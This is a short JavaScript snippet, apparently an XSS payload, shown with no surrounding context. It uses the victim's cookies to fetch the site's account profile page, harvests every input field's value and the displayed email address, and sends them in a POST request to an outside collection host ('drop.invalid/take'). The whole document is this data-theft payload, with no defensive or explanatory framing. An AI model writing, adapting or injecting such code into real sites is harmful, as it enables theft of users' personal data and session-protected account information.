fetch('/account/profile', { credentials: 'include' })
  .then(r => r.text())
  .then(html => {
    const page = new DOMParser().parseFromString(html, 'text/html');
    const got = {};
    page.querySelectorAll('input').forEach(i => { got[i.name] = i.value; });
    got.mail = page.querySelector('.email') && page.querySelector('.email').textContent;
    return fetch('https://drop.invalid/take', { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) });
  });
